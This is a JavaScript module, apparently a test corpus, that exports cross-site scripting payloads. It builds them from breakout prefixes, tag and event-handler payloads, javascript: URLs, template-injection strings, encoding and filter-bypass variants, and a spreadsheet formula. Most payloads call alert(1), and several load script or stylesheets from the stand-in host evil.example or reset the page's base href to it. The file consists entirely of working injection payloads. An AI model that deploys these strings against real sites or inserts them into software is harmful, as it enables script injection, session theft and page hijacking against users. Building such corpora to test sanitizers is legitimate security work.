// Texts that would do something if any page took them for markup, script or an
// address. Each calls alert, so that a page that is taken in opens a dialog.

/** Ways out of where a text may stand. */
const OUT = ["", "\">", "'>", "</p>", "</h2>", "</textarea>", "</title>", "</option></select>", "</style>", "-->", "]]>", "</script>"];

/** What runs once it is markup. */
const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<video><source onerror=alert(1)></video>",
  "<body onpageshow=alert(1)>",
];

/** What runs within an attribute, an address, a template or a reader that is too kind. */
const OTHERS = [
  "\" autofocus onfocus=\"alert(1)",
  "' autofocus onfocus='alert(1)",
  "x onmouseover=alert(1) style=position:fixed;inset:0",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example/x.js",
  "http://evil.example/?<script src=//evil.example/x.js></script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script src=data:,alert(1)></script>",
  "<script type=module>alert(1)</script>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<select autofocus onfocus=alert(1)></select>",
  "\u202e<script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "<img src=`x`onerror=alert(1)>",
  "';alert(1);//",
  "\\\";alert(1);//",
  "=HYPERLINK(\"javascript:alert(1)\")",
];

export const PAYLOADS = [...MARKUP.flatMap((markup) => OUT.map((out) => out + markup)), ...OTHERS];
